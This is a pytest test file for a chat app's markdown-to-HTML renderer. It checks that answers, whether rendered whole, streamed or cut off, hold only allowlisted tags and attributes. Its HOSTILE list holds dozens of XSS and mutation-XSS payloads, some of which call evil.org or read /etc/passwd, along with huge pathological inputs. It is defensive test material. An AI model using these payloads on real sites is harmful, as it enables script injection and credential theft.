"""Hostile answers: whatever a model writes, and wherever it is cut, only harmless HTML is left."""

import re
from html.parser import HTMLParser

import pytest

from tests.support.client_model import Append, extend
from vision_chat.services.markdown import _formulas, _limits
from vision_chat.services.markdown import document as documents
from vision_chat.services.markdown.document import StreamingDocument
from vision_chat.services.markdown.rendering import render

TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl"),
    *("dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "input", "ins", "kbd", "li", "mark", "ol"),
    *("p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody"),
    *("td", "tfoot", "th", "thead", "tr", "u", "ul", "var"),
    *("math", "menclose", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom"),
    *("mprescripts", "mroot", "mrow", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable"),
    *("mtd", "mtext", "mtr", "munder", "munderover"),
}
ATTRIBUTES = {
    "a": {"dir", "href", "title", "target", "rel"},
    "code": {"dir"},
    "details": {"open"},
    "div": {"class", "data-language", "dir"},
    "i": {"data-end"},
    "input": {"aria-label", "checked", "disabled", "type"},
    "ol": {"start"},
    "p": {"dir"},
    "pre": {"class"},
    "span": {"class", "dir"},
    "sup": {"class"},
    "table": {"dir"},
    "td": {"class", "colspan", "rowspan"},
    "th": {"class", "colspan", "rowspan"},
}
MATHS_ATTRIBUTE = re.compile(r"(?!on|href|src|style|class|id|xlink|action)[a-z]+")
CLASS = re.compile(
    r"(?:math|math-inline|math-display|math-source|code|code-language|footnote|plain|align-\w+|[a-z]{1,2}| )*"
)


class Inspector(HTMLParser):
    """Fails at the first thing that must not be in an answer."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            if tag.startswith("m") and tag != "mark":
                assert MATHS_ATTRIBUTE.fullmatch(name), (tag, name)
                continue
            assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "href":
                assert value is not None
                assert re.match(r"(?:https?:|mailto:)", value), value
            if name == "dir":
                assert value in {"ltr", "rtl", "auto"}
            if name == "class":
                assert CLASS.fullmatch(value or ""), value
            if name == "data-language":
                assert re.fullmatch(r"[\w+#.-]{1,30}", value or ""), value
        if tag == "a":
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"instruction: {data}")


def assert_harmless(blocks: list[str]) -> None:
    for block in blocks:
        inspector = Inspector(convert_charrefs=True)
        inspector.feed(block)
        inspector.close()


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>*{background:url(//evil.org)}</style>",
    "<link rel=stylesheet href=//evil.org>",
    '<meta http-equiv="refresh" content="0;url=//evil.org">',
    "<base href=//evil.org/>",
    "<form action=//evil.org><input type=password><button>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<sub onmouseover=alert(1)>x</sub>",
    "<mark style='position:fixed'>x</mark>",
    "<br onclick=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a id=location name=body href=#>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.org)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.b "t\\" onclick=\\"alert(1)")',
    "[x](https://a.b/\"onmouseover='alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <data:text/html,x> 'onclick=\"x\"'\n\n[x] ![x]",
    "<javascript:alert(1)>",
    '<https://a.b/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://evil.org/pixel.png)",
    '![x" onerror="alert(1)](x)',
    '![x](x "\\" onerror=\\"alert(1)")',
    "![<img src=x onerror=alert(1)>](https://a.b)",
    "[![a](javascript:1)](javascript:2)",
    '```"><script>alert(1)</script>\ncode\n```\n',
    '```py" onclick="alert(1)\ncode\n```\n',
    "```</div></div><script>\ncode\n```\n",
    "~~~&quot;&gt;&lt;script&gt;\ncode\n~~~\n",
    "```python\n</code></pre></div><script>alert(1)</script>\n```\n",
    "```html\n<script>alert(1)</script><!-- x -->\n```\n",
    "```js\nconst a = `</span><img src=x>`; // </code>\n```\n",
    "- ```\n  </code></pre></li></ul><script>\n",
    "</div></div></article><script>alert(1)</script>",
    "</code></pre></figure></p><img src=x onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "\\(\\text{</mtext></math><script>alert(1)</script>}\\)",
    "$$\\text{<style><!--</style><img src=x onerror=alert(1)>}$$",
    "$\\href{javascript:alert(1)}{x}$",
    "\\[\\style{position:fixed}{x}\\class{evil}{y}\\id{z}{w}\\]",
    "$\\color{red;background:url(x)}{x}$ $\\unicode{x} \\data{x=y}{z}$",
    '$x" onclick="alert(1)$ \\(<script>\\)',
    "`a` $<b>$ `</code>$x$<script>` $",
    "\x030\x04 $x$ \x02script\x02",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#x3c;svg&#x3E;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u2028script>alert(1)</script>",
    "\ufeff<script>\u202ealert(1)</script>",
    "|a|\n|-|\n|<td onclick=x>|\n|</td></table><script>|\n",
    "<u><b><details><summary><mark></u></p></summary><script>",
    "<details>\n<script>\n\n</script>\n\n</details onclick=x>\n",
    "# <h1 id=x onclick=y>\n\n<h2>\n",
    "> <blockquote cite=javascript:x>\n\n<div style=x>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_rendered_text_holds_nothing_harmful(text: str) -> None:
    assert_harmless(list(render(text)))
    assert_harmless(list(render(f"Some text, then {text} and more.\n\n- {text}\n\n> {text}")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_growing_text_holds_nothing_harmful_at_any_moment(text: str) -> None:
    document = StreamingDocument("Before: ")
    so_far = "Before: "
    for character in text + "\n\nafter":
        so_far += character
        extend(document, character)
        assert_harmless(document.blocks)
        assert_harmless(StreamingDocument(so_far).blocks)
    document.finish()
    assert_harmless(document.blocks)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_insertion_point_is_never_the_text_of_an_answer(text: str) -> None:
    blocks = render(text + "\n\n<i data-end></i>")
    assert "data-end" not in "".join(blocks)


def test_the_inspector_sees_what_is_harmful() -> None:
    for html in ("<script>", "<p onclick=x>", "<a href='javascript:x' rel=y>", "<!-- x -->", "<mi style=x>"):
        with pytest.raises((AssertionError, pytest.fail.Exception)):
            assert_harmless([html])


PLAIN = '<pre class="plain">'


@pytest.mark.parametrize(
    "text",
    [
        "> " * 50_000,
        ">" * 100_000,
        "- " * 30_000 + "a",
        "".join("  " * depth + "- a\n" for depth in range(300)),
        "*a " * 15_000 + "a* " * 15_000,
        "[" * 50_000,
        "![" * 50_000,
        "[a](" * 25_000,
        "a `" * 20_000,
        "<" * 50_000,
        "<u>" * 20_000,
        "a <b " * 20_000,
        "&" * 50_000,
        "$" * 50_000,
        "$x$ " * 20_000,
        "\\[" * 30_000,
        "|a" * 50_000 + "\n" + "|-" * 50_000 + "\n",
        "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "a\n" * 10_000,
        "a" * 300_000,
        "\\(" + "{" * 1_000 + "\\)" + " word" * 20_000,
    ],
)
def test_a_text_past_the_limits_is_not_rendered(text: str) -> None:
    blocks = render(text)
    assert blocks[-1].startswith(PLAIN)
    assert sum(map(len, blocks)) < 6 * len(text) + 1000
    assert_harmless(list(blocks))


def test_plain_text_costs_no_rendering_before_an_empty_line_and_markdown_goes_on_after_it() -> None:
    document = StreamingDocument("A paragraph.\n\n" + "> " * 40 + "deep\n")
    assert document.blocks[0] == "<p>A paragraph.</p>"
    assert document.blocks[1].startswith(PLAIN)
    assert extend(document, "# **No title**\n") == [Append("# **No title**\n")]
    extend(document, "\n# **Title**\n")
    assert document.blocks[1].endswith("# **No title**</pre>")
    assert document.blocks[2:] == ["<h1><strong>Title</strong></h1>"]


def test_html_is_bounded_over_the_whole_answer() -> None:
    text = "$x$\n\n" * 50_000
    blocks = render(text)
    assert blocks[0].startswith("<p>")
    assert blocks[-1].startswith(PLAIN)
    assert sum(map(len, blocks)) < 4 * documents.MAX_HTML


def test_nesting_within_the_limit_is_rendered() -> None:
    assert render("> " * (_limits.MAX_DEPTH - 1) + "a")[0].count("<blockquote>") == _limits.MAX_DEPTH - 1


def test_a_long_code_block_is_rendered_and_not_coloured() -> None:
    [block] = render("```python\n" + "import os\n" * 5_000 + "```")
    assert block.startswith('<div class="code"')
    assert "<span" not in block


@pytest.mark.parametrize(
    "source", ["{" * 30_000, "x^{" * 500 + "}" * 500, "\\left(" * 200, "\\begin{matrix}"]
)
def test_a_formula_that_cannot_be_made_shows_its_source(source: str) -> None:
    html = "".join(render(f"$${source[: _formulas.MAX_LENGTH - 10]}$$"))
    assert "<math" not in html
    assert source[:20] in html
